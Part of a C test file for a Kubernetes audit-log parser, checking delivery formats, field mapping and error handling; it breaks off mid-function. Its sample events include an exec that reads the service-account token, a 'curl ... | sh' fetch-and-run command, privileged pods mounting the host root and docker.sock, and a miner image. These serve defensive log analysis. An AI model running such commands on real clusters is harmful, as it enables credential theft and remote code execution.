/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test-parse-k8s-audit.c - the Kubernetes audit parser: every delivery shape,
 * every mapped field with exact values, corrupt records, sniff scores, and
 * conformance over the falco, sekoia and panther samples when present.
 *
 * Samples are written with ' for " and ^ for \" (a quote inside a JSON string)
 * to stay readable; q() turns them back into JSON.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cjson/cJSON.h>
#include <dirent.h>

#include <tyto/frame.h>
#include <tyto/input.h>
#include <tyto/parser.h>
#include <tyto/time.h>

#include "parse-harness.h"
#include "test.h"

/* ---- samples --------------------------------------------------------- */

/* formats.md §4.5: websocket exec by an EKS IAM role */
static const char exec_eks[] =
    "{'kind':'Event','apiVersion':'audit.k8s.io/v1','level':'Metadata','auditID':"
    "'4c0b9e4e-2d6f-4f3a-a3c2-91f0b7d5e812','stage':'ResponseStarted','requestURI':"
    "'/api/v1/namespaces/payments/pods/api-7c9d8f6b5-x2kqp/exec?command=sh&command=-c&command="
    "cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=api&stdin=true"
    "&stdout=true&tty=true','verb':'get','user':{'username':'arn:aws:sts::111122223333:assumed-"
    "role/OpsAdmin/jdoe@example.com','uid':'aws-iam-authenticator:111122223333:AROAEXAMPLEROLEID01"
    "','groups':['ops','system:authenticated'],'extra':{'accessKeyId':['ASIAEXAMPLEKEY00001'],"
    "'arn':['arn:aws:sts::111122223333:assumed-role/OpsAdmin/jdoe@example.com'],'canonicalArn':"
    "['arn:aws:iam::111122223333:role/OpsAdmin'],'principalId':['AROAEXAMPLEROLEID01'],"
    "'sessionName':['jdoe@example.com']}},'sourceIPs':['203.0.113.77'],'userAgent':'kubectl/"
    "v1.29.2 (linux/amd64) kubernetes/4b8e819','objectRef':{'resource':'pods','namespace':"
    "'payments','name':'api-7c9d8f6b5-x2kqp','apiVersion':'v1','subresource':'exec'},"
    "'responseStatus':{'metadata':{},'code':101},'requestReceivedTimestamp':"
    "'2024-03-12T14:08:02.123456Z','stageTimestamp':'2024-03-12T14:08:02.201987Z','annotations':"
    "{'authorization.k8s.io/decision':'allow','authorization.k8s.io/reason':'RBAC: allowed by "
    "ClusterRoleBinding ^ops-admins^ of ClusterRole ^cluster-admin^ to Group ^ops^'}}";

static const char exec_eks_json[] =
    "{'ts':'2024-03-12T14:08:02.123456Z','ts_end':'2024-03-12T14:08:02.201987Z','ts_prec':6,"
    "'time_text':'2024-03-12T14:08:02.123456Z','category':'api','action':'get pods/exec',"
    "'provider':'kube-apiserver','outcome':'success','status_code':'101','status_detail':"
    "'RBAC: allowed by ClusterRoleBinding ^ops-admins^ of ClusterRole ^cluster-admin^ to Group "
    "^ops^','disposition':'allowed','read_only':0,'vendor_id':"
    "'4c0b9e4e-2d6f-4f3a-a3c2-91f0b7d5e812','actor':'arn:aws:sts::111122223333:assumed-role/"
    "OpsAdmin/jdoe@example.com','actor_type':'IAM','actor_id':'aws-iam-authenticator:"
    "111122223333:AROAEXAMPLEROLEID01','actor_account':'111122223333','actor_session':"
    "'jdoe@example.com','access_key':'ASIAEXAMPLEKEY00001','actor_issuer':'arn:aws:iam::"
    "111122223333:role/OpsAdmin','actor_groups':'ops,system:authenticated','user_agent':"
    "'kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819','src_ip':'203.0.113.77',"
    "'k8s_namespace':'payments','k8s_pod':'api-7c9d8f6b5-x2kqp','container_name':'api',"
    "'target_kind':'pods/exec','target':'payments/pods/api-7c9d8f6b5-x2kqp','target_name':"
    "'api-7c9d8f6b5-x2kqp','target_namespace':'payments','request_uri':'/api/v1/namespaces/"
    "payments/pods/api-7c9d8f6b5-x2kqp/exec?command=sh&command=-c&command=cat+%2Fvar%2Frun%2F"
    "secrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken&container=api&stdin=true&stdout=true&tty=true"
    "','process_cmdline':'sh -c cat /var/run/secrets/kubernetes.io/serviceaccount/token',"
    "'message':'stage=ResponseStarted level=Metadata','format':'k8s-audit','offset':0,'line':1}\n";

/* v1beta1 (falco era): a privileged pod with host mounts, name only in the body */
static const char pod_priv[] =
    "{'kind':'Event','apiVersion':'audit.k8s.io/v1beta1','metadata':{'creationTimestamp':"
    "'2018-10-26T13:38:34Z'},'level':'RequestResponse','timestamp':'2018-10-26T13:38:34Z',"
    "'auditID':'a1','stage':'ResponseComplete','requestURI':'/api/v1/namespaces/default/pods',"
    "'verb':'create','user':{'username':'minikube-user','groups':['system:masters',"
    "'system:authenticated']},'sourceIPs':['192.168.99.1'],'objectRef':{'resource':'pods',"
    "'namespace':'default','apiVersion':'v1'},'responseStatus':{'metadata':{},'code':201},"
    "'requestObject':{'kind':'Pod','apiVersion':'v1','metadata':{'name':'evil','namespace':"
    "'default'},'spec':{'nodeName':'node-7','hostPID':true,'hostNetwork':false,'volumes':"
    "[{'name':'root','hostPath':{'path':'/'}},{'name':'sock','hostPath':{'path':"
    "'/var/run/docker.sock','type':'Socket'}},{'name':'e','emptyDir':{}}],'initContainers':"
    "[{'name':'i','image':'busybox'}],'containers':[{'name':'c1','image':'alpine:3.19',"
    "'securityContext':{'privileged':true}}]}},'requestReceivedTimestamp':"
    "'2018-10-26T13:38:34.867116Z','stageTimestamp':'2018-10-26T13:38:34.902914Z',"
    "'annotations':{'authorization.k8s.io/decision':'allow','authorization.k8s.io/reason':''}}";

static const char pod_priv_json[] =
    "{'ts':'2018-10-26T13:38:34.867116Z','ts_end':'2018-10-26T13:38:34.902914Z','ts_prec':6,"
    "'time_text':'2018-10-26T13:38:34.867116Z','category':'api','action':'create pods',"
    "'provider':'kube-apiserver','outcome':'success','status_code':'201','disposition':"
    "'allowed','read_only':0,'vendor_id':'a1','actor':'minikube-user','actor_type':'User',"
    "'actor_groups':'system:masters,system:authenticated','src_ip':'192.168.99.1',"
    "'k8s_namespace':'default','k8s_pod':'evil','k8s_node':'node-7','container_image':"
    "'alpine:3.19','target_kind':'pods','target':'default/pods/evil','target_name':'evil',"
    "'target_namespace':'default','request_uri':'/api/v1/namespaces/default/pods','message':"
    "'stage=ResponseComplete level=RequestResponse privileged=true hostPID=true hostPath=/,"
    "/var/run/docker.sock','format':'k8s-audit','offset':0,'line':1}\n";

/* the node identity tries to create a pod, RBAC says no; behind a proxy */
static const char node_forbid[] =
    "{'kind':'Event','apiVersion':'audit.k8s.io/v1','level':'Request','auditID':'b2','stage':"
    "'ResponseComplete','requestURI':'/api/v1/namespaces/default/pods?fieldManager=kubectl',"
    "'verb':'create','user':{'username':'system:node:ip-192-168-23-11.ec2.internal','uid':"
    "'aws-iam-authenticator:111122223333:AROANODE','groups':['system:bootstrappers',"
    "'system:nodes']},'sourceIPs':['10.0.5.5','192.168.23.11'],'userAgent':'kubectl/v1.28.0',"
    "'objectRef':{'resource':'pods','namespace':'default','name':'legit-stuff','apiVersion':"
    "'v1'},'responseStatus':{'metadata':{},'status':'Failure','message':'pods ^legit-stuff^ is "
    "forbidden: node cannot create','reason':'Forbidden','code':403},"
    "'requestReceivedTimestamp':'2024-03-12T14:08:02.000001Z','stageTimestamp':"
    "'2024-03-12T14:08:02.000900Z','annotations':{'authorization.k8s.io/decision':'forbid',"
    "'authorization.k8s.io/reason':''}}";

static const char node_forbid_json[] =
    "{'ts':'2024-03-12T14:08:02.000001Z','ts_end':'2024-03-12T14:08:02.000900Z','ts_prec':6,"
    "'time_text':'2024-03-12T14:08:02.000001Z','category':'api','action':'create pods',"
    "'provider':'kube-apiserver','outcome':'failure','status_code':'403','status_detail':"
    "'Forbidden: pods ^legit-stuff^ is forbidden: node cannot create','disposition':'blocked',"
    "'read_only':0,'vendor_id':'b2','actor':'system:node:ip-192-168-23-11.ec2.internal',"
    "'actor_type':'Node','actor_id':'aws-iam-authenticator:111122223333:AROANODE',"
    "'actor_groups':'system:bootstrappers,system:nodes','user_agent':'kubectl/v1.28.0',"
    "'src_ip':'192.168.23.11','src_nat_ip':'10.0.5.5','k8s_namespace':'default','k8s_pod':"
    "'legit-stuff','k8s_node':'ip-192-168-23-11.ec2.internal','target_kind':'pods','target':"
    "'default/pods/legit-stuff','target_name':'legit-stuff','target_namespace':'default',"
    "'request_uri':'/api/v1/namespaces/default/pods?fieldManager=kubectl','message':"
    "'stage=ResponseComplete level=Request','format':'k8s-audit','offset':0,'line':1}\n";

/* impersonation, a cluster-wide list, IPv6 */
static const char list_imp[] =
    "{'kind':'Event','apiVersion':'audit.k8s.io/v1','level':'Metadata','auditID':'c3','stage':"
    "'ResponseComplete','requestURI':'/api/v1/secrets?limit=500','verb':'list','user':"
    "{'username':'alice','uid':'u-1','groups':['dev']},'impersonatedUser':{'username':"
    "'system:serviceaccount:kube-system:admin','groups':['system:serviceaccounts']},"
    "'sourceIPs':['2001:db8::7'],'objectRef':{'resource':'secrets','apiVersion':'v1'},"
    "'responseStatus':{'metadata':{},'code':200},'requestReceivedTimestamp':"
    "'2024-03-12T14:08:02.5Z','stageTimestamp':'2024-03-12T14:08:02.6Z'}";

static const char list_imp_json[] =
    "{'ts':'2024-03-12T14:08:02.5Z','ts_end':'2024-03-12T14:08:02.6Z','ts_prec':1,'time_text':"
    "'2024-03-12T14:08:02.5Z','category':'api','action':'list secrets','provider':"
    "'kube-apiserver','outcome':'success','status_code':'200','read_only':1,'vendor_id':'c3',"
    "'actor':'alice','actor_type':'User','actor_id':'u-1','actor_effective':"
    "'system:serviceaccount:kube-system:admin','actor_groups':'dev','src_ip':'2001:db8::7',"
    "'target_kind':'secrets','target':'secrets','request_uri':'/api/v1/secrets?limit=500',"
    "'message':'stage=ResponseComplete level=Metadata','format':'k8s-audit','offset':0,"
    "'line':1}\n";

/* a non-resource request by an anonymous client */
static const char healthz[] =
    "{'kind':'Event','apiVersion':'audit.k8s.io/v1','level':'Metadata','auditID':'d4','stage':"
    "'ResponseComplete','requestURI':'/healthz?verbose=1','verb':'get','user':{'username':"
    "'system:anonymous','groups':['system:unauthenticated']},'sourceIPs':['198.51.100.9'],"
    "'userAgent':'curl/8.0','responseStatus':{'metadata':{},'code':401},"
    "'requestReceivedTimestamp':'2024-03-12T14:08:03.000000Z','stageTimestamp':"
    "'2024-03-12T14:08:03.000100Z'}";

static const char healthz_json[] =
    "{'ts':'2024-03-12T14:08:03.000000Z','ts_end':'2024-03-12T14:08:03.000100Z','ts_prec':6,"
    "'time_text':'2024-03-12T14:08:03.000000Z','category':'api','action':'get /healthz',"
    "'provider':'kube-apiserver','outcome':'failure','status_code':'401','read_only':1,"
    "'vendor_id':'d4','actor':'system:anonymous','actor_type':'Anonymous','actor_groups':"
    "'system:unauthenticated','user_agent':'curl/8.0','src_ip':'198.51.100.9','target':"
    "'/healthz','request_uri':'/healthz?verbose=1','http_method':'GET','message':"
    "'stage=ResponseComplete level=Metadata','format':'k8s-audit','offset':0,'line':1}\n";

/* small events for the wrappers (inner quotes as ^ for the string forms) */
#define MINI(id, q_)                                                                               \
    "{" q_ "kind" q_ ":" q_ "Event" q_ "," q_ "apiVersion" q_ ":" q_ "audit.k8s.io/v1" q_ ","     \
    q_ "auditID" q_ ":" q_ id q_ "," q_ "stage" q_ ":" q_ "ResponseComplete" q_ "," q_ "verb" q_ \
    ":" q_ "delete" q_ "," q_ "user" q_ ":{" q_ "username" q_ ":" q_ "bob" q_ "}," q_ "objectRef" \
    q_ ":{" q_ "resource" q_ ":" q_ "configmaps" q_ "," q_ "namespace" q_ ":" q_ "ns" q_ ","   \
    q_ "name" q_ ":" q_ "cm" q_ "}," q_ "requestReceivedTimestamp" q_ ":" q_                     \
    "2024-03-12T14:08:02.123456Z" q_ "}"

static const char mini_json[] =
    "{'ts':'2024-03-12T14:08:02.123456Z','ts_prec':6,'time_text':'2024-03-12T14:08:02.123456Z',"
    "'category':'api','action':'delete configmaps','provider':'kube-apiserver','read_only':0,"
    "'vendor_id':'%s','actor':'bob','actor_type':'User',%s'k8s_namespace':'ns','target_kind':"
    "'configmaps','target':'ns/configmaps/cm','target_name':'cm','target_namespace':'ns',"
    "'message':'stage=ResponseComplete','format':'k8s-audit','offset':0,'line':1}\n";

static const char *mini_expect(struct h *h, const char *id, const char *host)
{
    char buf[2048], hostf[128] = "";
    if (host)
        snprintf(hostf, sizeof(hostf), "'host':'%s',", host);
    snprintf(buf, sizeof(buf), mini_json, id, hostf);
    return q(h, buf);
}

static void test_fields(void)
{
    struct h h;
    const char *head = "{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\"}\n";
    h_open(&h, &ty_parser_k8s_audit, head, strlen(head));
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_LINES);
    CHECK_STR(h.ctx.shape, "JSON lines, audit.k8s.io/v1");

    CHECK_INT(h_feed(&h, exec_eks), TY_OK);
    CHECK_INT(h.n, 1);
    CHECK_STR(h.out.buf, q(&h, exec_eks_json));
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1710252482123456000));
    CHECK_INT(ty_event_int(&h.last, TY_F_TS_END, 0), INT64_C(1710252482201987000));

    h.offset = 0;
    CHECK_INT(h_feed(&h, pod_priv), TY_OK);
    CHECK_STR(h.out.buf, q(&h, pod_priv_json));
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1540561114867116000));

    h.offset = 0;
    CHECK_INT(h_feed(&h, node_forbid), TY_OK);
    CHECK_STR(h.out.buf, q(&h, node_forbid_json));

    h.offset = 0;
    CHECK_INT(h_feed(&h, list_imp), TY_OK);
    CHECK_STR(h.out.buf, q(&h, list_imp_json));

    h.offset = 0;
    CHECK_INT(h_feed(&h, healthz), TY_OK);
    CHECK_STR(h.out.buf, q(&h, healthz_json));

    /* SPDY exec (verb create), attach, a command with spaces and %-escapes */
    h.offset = 0;
    CHECK_INT(h_feed(&h, "{'verb':'create','auditID':'e5','requestURI':'/api/v1/namespaces/n/"
                         "pods/p/exec?container=c%2D1&command=%2Fbin%2Fsh&command=-c&command="
                         "curl+-s+http%3A%2F%2F203.0.113.9%2Ft+%7C+sh&stdin=true','objectRef':"
                         "{'resource':'pods','namespace':'n','name':'p','subresource':'exec'},"
                         "'requestReceivedTimestamp':'2024-03-12T14:08:02Z'}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "create pods/exec");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CMDLINE),
               "/bin/sh -c curl -s http://203.0.113.9/t | sh");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CONTAINER_NAME), "c-1");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE), "stage=-");
    CHECK_INT(ty_event_int(&h.last, TY_F_TS_PREC, -1), 0);
    CHECK(!ty_event_has(&h.last, TY_F_OUTCOME)); /* no code, no decision */
    CHECK_INT(h_feed(&h, "{'verb':'create','requestURI':'/api/v1/namespaces/n/pods/p/attach?"
                         "container=c&stdin=true','objectRef':{'resource':'pods','namespace':"
                         "'n','name':'p','subresource':'attach'},'requestReceivedTimestamp':"
                         "'2024-03-12T14:08:02Z','annotations':{'authorization.k8s.io/decision':"
                         "'forbid'}}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "create pods/attach");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CONTAINER_NAME), "c");
    CHECK(!ty_event_has(&h.last, TY_F_PROC_CMDLINE));
    CHECK_SPAN(ty_event_str(&h.last, TY_F_OUTCOME), "failure"); /* from the decision */
    CHECK_SPAN(ty_event_str(&h.last, TY_F_DISPOSITION), "blocked");

    /* a DaemonSet with a privileged pod template; hostNetwork; cordon a node */
    CHECK_INT(h_feed(&h, "{'verb':'create','objectRef':{'resource':'daemonsets','namespace':"
                         "'kube-system','apiGroup':'apps'},'requestObject':{'metadata':{'name':"
                         "'ds'},'spec':{'template':{'spec':{'hostNetwork':true,'hostIPC':true,"
                         "'containers':[{'name':'x','image':'xmrig:6','securityContext':"
                         "{'privileged':true}}]}}}},'requestReceivedTimestamp':"
                         "'2024-03-12T14:08:02Z','stage':'ResponseComplete'}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE),
               "stage=ResponseComplete privileged=true hostNetwork=true hostIPC=true");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CONTAINER_IMAGE), "xmrig:6");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET), "kube-system/daemonsets/ds");
    CHECK(!ty_event_has(&h.last, TY_F_K8S_POD));
    CHECK_INT(h_feed(&h, "{'verb':'patch','user':{'username':'ops'},'objectRef':{'resource':"
                         "'nodes','name':'ip-10-0-1-2'},'requestReceivedTimestamp':"
                         "'2024-03-12T14:08:02Z','responseStatus':{'code':200}}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_K8S_NODE), "ip-10-0-1-2");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET), "nodes/ip-10-0-1-2");
    CHECK(!ty_event_has(&h.last, TY_F_K8S_NAMESPACE));

    /* objectRef without a name: the URI names the object of a subresource */
    CHECK_INT(h_feed(&h, "{'verb':'patch','requestURI':'/apis/apps/v1/namespaces/pods/"
                         "deployments/web/scale','objectRef':{'resource':'deployments',"
                         "'namespace':'pods','apiGroup':'apps','subresource':'scale'},"
                         "'requestReceivedTimestamp':'2024-03-12T14:08:02Z'}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET), "pods/deployments/web");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_KIND), "deployments/scale");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "patch deployments/scale");
    CHECK_INT(h_feed(&h, "{'verb':'list','requestURI':'/api/v1/namespaces/pods/pods?limit=5',"
                         "'objectRef':{'resource':'pods','namespace':'pods'},"
                         "'requestReceivedTimestamp':'2024-03-12T14:08:02Z'}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET), "pods/pods");
    CHECK(!ty_event_has(&h.last, TY_F_TARGET_NAME));
    CHECK(!ty_event_has(&h.last, TY_F_K8S_POD));

    /* sourceIPs: the last one only is trusted; a non-IP goes to src_addr */
    char ipb[TY_IP_STRLEN];
    CHECK_INT(h_feed(&h, "{'verb':'get','sourceIPs':['203.0.113.1','198.51.100.2','10.0.0.3'],"
                         "'requestReceivedTimestamp':'2024-03-12T14:08:02Z'}"),
              TY_OK);
    CHECK_STR(ipstr(&h.last, TY_F_SRC_IP, ipb), "10.0.0.3");
    CHECK_STR(ipstr(&h.last, TY_F_SRC_NAT_IP, ipb), "203.0.113.1");
    CHECK_INT(h_feed(&h, "{'verb':'get','sourceIPs':['unix'],'requestReceivedTimestamp':"
                         "'2024-03-12T14:08:02Z'}"),
              TY_OK);
    CHECK(!ty_event_has(&h.last, TY_F_SRC_IP));
    CHECK_SPAN(ty_event_str(&h.last, TY_F_SRC_ADDR), "unix");

    /* 3xx and 1xx other than 101: no outcome; OpenShift login annotations */
    CHECK_INT(h_feed(&h, "{'verb':'get','responseStatus':{'code':304},"
                         "'requestReceivedTimestamp':'2024-03-12T14:08:02Z'}"),
              TY_OK);
    CHECK(!ty_event_has(&h.last, TY_F_OUTCOME));
    CHECK_SPAN(ty_event_str(&h.last, TY_F_STATUS_CODE), "304");
    CHECK_INT(h_feed(&h, "{'verb':'get','requestURI':'/oauth/authorize','annotations':"
                         "{'authentication.openshift.io/decision':'deny',"
                         "'authentication.openshift.io/username':'kubeadmin'},"
                         "'requestReceivedTimestamp':'2024-03-12T14:08:02Z'}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_OUTCOME), "failure");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_TARGET_USER), "kubeadmin");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE), "stage=- login=deny");

    /* time fallbacks: stageTimestamp, metadata.creationTimestamp, timestamp */
    CHECK_INT(h_feed(&h, "{'verb':'get','stageTimestamp':'2024-03-12T14:08:02.25Z'}"), TY_OK);
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1710252482250000000));
    CHECK_INT(ty_event_int(&h.last, TY_F_TS_END, 0), INT64_C(1710252482250000000));
    CHECK_INT(h_feed(&h, "{'verb':'get','metadata':{'creationTimestamp':'2018-10-26T13:38:34Z'},"
                         "'timestamp':'2000-01-01T00:00:00Z'}"),
              TY_OK);
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1540561114000000000));
    CHECK(!ty_event_has(&h.last, TY_F_TS_END));
    CHECK_INT(h_feed(&h, "{'verb':'get','timestamp':'2018-10-26T13:38:34Z'}"), TY_OK);
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1540561114000000000));
    /* panther-style time text without T/Z is taken as UTC */
    CHECK_INT(h_feed(&h, "{'verb':'get','requestReceivedTimestamp':'2022-11-29 00:09:04.38'}"),
              TY_OK);
    CHECK_INT(ty_event_int(&h.last, TY_F_TS_PREC, -1), 2);
    h_close(&h);
}

static void test_shapes(void)
{
    struct h h;
    const char *head;

    /* node-name prefix (oc adm node-logs) */
    head = "ip-10-0-140-97.ec2.internal {\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\"}";
    h_open(&h, &ty_parser_k8s_audit, head, strlen(head));
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_LINES);
    CHECK_STR(h.ctx.shape, "node-name-prefixed JSON lines, audit.k8s.io/v1");
    h.offset = 0;
    CHECK_INT(h_feed(&h, "ip-10-0-140-97.ec2.internal " MINI("n1", "'")), TY_OK);
    CHECK_STR(h.out.buf, mini_expect(&h, "n1", "ip-10-0-140-97.ec2.internal"));
    h_close(&h);

    /* timestamp prefix (CloudWatch export to S3): no host */
    head = "2024-03-12T14:08:02.123Z {\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\"}";
    h_open(&h, &ty_parser_k8s_audit, head, strlen(head));
    CHECK_STR(h.ctx.shape, "timestamp-prefixed JSON lines, audit.k8s.io/v1");
    CHECK_INT(h_feed(&h, "2024-03-12T14:08:02.123Z " MINI("t1", "'")), TY_OK);
    h.offset = 0;
    CHECK_INT(h_feed(&h, "2024-03-12T14:08:02.123Z " MINI("t1", "'")), TY_OK);
    CHECK_STR(h.out.buf, mini_expect(&h, "t1", NULL));
    h.offset = 0;
    CHECK_INT(h_feed(&h, "1710252482123 " MINI("t1", "'")), TY_OK); /* epoch ms: no host */
    CHECK_STR(h.out.buf, mini_expect(&h, "t1", NULL));
    CHECK_INT(h_feed(&h, "ip-10-0-140-97.ec2.internal no json here"), TY_ECORRUPT);
    CHECK_STR(h.err.msg, "not a JSON object: no '{' in the record");
    h_close(&h);

    /* EventList (webhook): framed on "items"; a whole list on one line works too */
    head = "{\n  \"kind\": \"EventList\",\n  \"apiVersion\": \"audit.k8s.io/v1\",\n  \"items\": [";
    h_open(&h, &ty_parser_k8s_audit, head, strlen(head));
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_JSON);
    CHECK_STR(h.ctx.frame.key, "items");
    CHECK_STR(h.ctx.shape, "EventList documents (webhook), audit.k8s.io/v1");
    h.offset = 0;
    CHECK_INT(h_feed(&h, MINI("i1", "'")), TY_OK);
    CHECK_STR(h.out.buf, mini_expect(&h, "i1", NULL));
    h.offset = 0;
    CHECK_INT(h_feed(&h, "{'kind':'EventList','apiVersion':'audit.k8s.io/v1','metadata':{},"
                         "'items':[" MINI("i1", "'") "," MINI("i2", "'") "]}"),
              TY_OK);
    CHECK_INT(h.n, 2);
    CHECK_INT(h.last.sub, 1);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_VENDOR_ID), "i2");
    /* one bad item: the whole record is quarantined, nothing emitted */
    CHECK_INT(h_feed(&h, "{'kind':'EventList','items':[" MINI("i1", "'") ",{'kind':'Event'}]}"),
              TY_ECORRUPT);
    CHECK_STR(h.err.msg, "element 1: not a Kubernetes audit Event: missing verb");
    CHECK_INT(h_feed(&h, "{'kind':'EventList','items':[]}"), TY_SKIP);
    h_close(&h);

    /* aws logs filter-log-events (EKS): framed on "events", message decoded */
    head = "{\n    \"events\": [\n        {\n            \"logStreamName\": "
           "\"kube-apiserver-audit-0a1b\",\n            \"timestamp\": 1710252482123,\n"
           "            \"message\": \"{\\\"kind\\\":\\\"Event\\\",\\\"apiVersion\\\":"
           "\\\"audit.k8s.io/v1\\\",\\\"level\\\":\\\"Metadata\\\",\\\"auditID\\\":";
    h_open(&h, &ty_parser_k8s_audit, head, strlen(head));
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_JSON);
    CHECK_STR(h.ctx.frame.key, "events");
    CHECK_STR(h.ctx.shape, "CloudWatch Logs events JSON (EKS), audit.k8s.io/v1");
    h.offset = 0;
    CHECK_INT(h_feed(&h, "{'logStreamName':'kube-apiserver-audit-0a1b','timestamp':"
                         "1710252482123,'message':'" MINI("w1", "^") "','ingestionTime':"
                         "1710252483000,'eventId':'3780'}"),
              TY_OK);
    CHECK_STR(h.out.buf, mini_expect(&h, "w1", NULL));
    CHECK_INT(h_feed(&h, "{'events':[{'timestamp':1,'message':'" MINI("w1", "^") "'},"
                         "{'timestamp':2,'message':'" MINI("w2", "^") "'}],"
                         "'searchedLogStreams':[]}"),
              TY_OK);
    CHECK_INT(h.n, 2);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_VENDOR_ID), "w2");
    /* another stream of the log group (authenticator) is not an Event */
    CHECK_INT(h_feed(&h, "{'timestamp':1,'message':'time=2024-03-12 level=info msg=access "
                         "granted'}"),
              TY_ECORRUPT);
    CHECK(strncmp(h.err.msg, "\"message\" is not a JSON Event: ", 31) == 0);
    CHECK_INT(h_feed(&h, "{'events':[{'timestamp':1,'message':'" MINI("w1", "^") "'},"
                         "{'timestamp':2,'message':'{}'}]}"),
              TY_ECORRUPT);
    CHECK_STR(h.err.msg, "element 1: not a Kubernetes audit Event: missing verb");
    h_close(&h);

    /* CloudWatch JSON lines */
    head = "{\"timestamp\":1710252482123,\"message\":\"{\\\"kind\\\":\\\"Event\\\",\\\""
           "apiVersion\\\":\\\"audit.k8s.io/v1\\\"}\"}\n";
    h_open(&h, &ty_parser_k8s_audit, head, strlen(head));
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_LINES);
    CHECK_STR(h.ctx.shape, "CloudWatch JSON lines, audit.k8s.io/v1");
    h.offset = 0;
    CHECK_INT(h_feed(&h, "{'timestamp':1710252482123,'message':'" MINI("c1", "^") "'}"), TY_OK);
    CHECK_STR(h.out.buf, mini_expect(&h, "c1", NULL));
    h_close(&h);

    /* arrays and pretty-printed documents: JSON framing without a key */
    head = "[\n  {\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1beta1\"";
    h_open(&h, &ty_parser_k8s_audit, head, strlen(head));
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_JSON);
    CHECK(h.ctx.frame.key == NULL);
    CHECK_STR(h.ctx.shape, "JSON array, audit.k8s.io/v1beta1");
    CHECK_INT(h_feed(&h, "[" MINI("a1", "'") "," MINI("a2", "'") "]"), TY_OK);
    CHECK_INT(h.n, 2);
    CHECK_INT(h_feed(&h, "[1]"), TY_ECORRUPT);
    CHECK_STR(h.err.msg, "element 0: not a Kubernetes audit Event (not an object)");
    h_close(&h);
    head = "{\n  \"kind\": \"Event\",\n  \"apiVersion\": \"audit.k8s.io/v1\",\n"
           "  \"auditID\": \"x\"";
    h_open(&h, &ty_parser_k8s_audit, head, strlen(head));
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_JSON);
    CHECK(h.ctx.frame.key == NULL);
    CHECK_STR(h.ctx.shape, "JSON documents, audit.k8s.io/v1");
    h_close(&h);
    /* a head cut inside a long first line: still JSON lines */
    head = "{\"kind\":\"Event\",\"apiVersion\":\"audit.k8s.io/v1\",\"requestObject\":{\"a\":";
    h_open(&h, &ty_parser_k8s_audit, head, strlen(head));
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_LINES);
    h_close(&h);
}

/* Whole streams through the real framer, as the ingest driver runs them. */
static void test_streams(void)
{
    struct h h;
    struct run_counts c;

    /* aws logs filter-log-events --output json (pretty), two pages cat'ed */
    c = h_run(&h, &ty_parser_k8s_audit,
              q(&h, "{\n  'events': [\n    {\n      'logStreamName': 'kube-apiserver-audit-1',\n"
                    "      'timestamp': 1710252482123,\n      'message': '" MINI("p1", "^")
                    "',\n      'ingestionTime': 1710252483000,\n      'eventId': '1'\n    },\n"
                    "    {\n      'timestamp': 1710252482124,\n      'message': '" MINI("p2", "^")
                    "'\n    }\n  ],\n  'searchedLogStreams': [{'logStreamName': 'x', "
                    "'searchedCompletely': true}]\n}\n{'events': [{'timestamp': 1, 'message': '"
                    MINI("p3", "^") "'}], 'nextForwardToken': 'f/1'}\n"));
    CHECK_STR(h.ctx.frame.key, "events");
    CHECK_INT(c.ev, 3);
    CHECK_INT(c.bad, 0);
    CHECK(strstr(h.out.buf, "\"vendor_id\":\"p3\"") != NULL);
    h_close(&h);

    /* webhook EventList batches, pretty, one after the other */
    c = h_run(&h, &ty_parser_k8s_audit,
              q(&h, "{\n  'kind': 'EventList',\n  'apiVersion': 'audit.k8s.io/v1',\n  'metadata': "
                    "{},\n  'items': [\n    " MINI("l1", "'") ",\n    " MINI("l2", "'")
                    "\n  ]\n}\n{'kind':'EventList','apiVersion':'audit.k8s.io/v1','items':["
                    MINI("l3", "'") ",{'kind':'Event'}]}\n"));
    CHECK_STR(h.ctx.frame.key, "items");
    CHECK_INT(c.ev, 3);
    CHECK_INT(c.bad, 1); /* the item without a verb */
    h_close(&h);

    /* a JSON array of Events */
    c = h_run(&h, &ty_parser_k8s_audit,
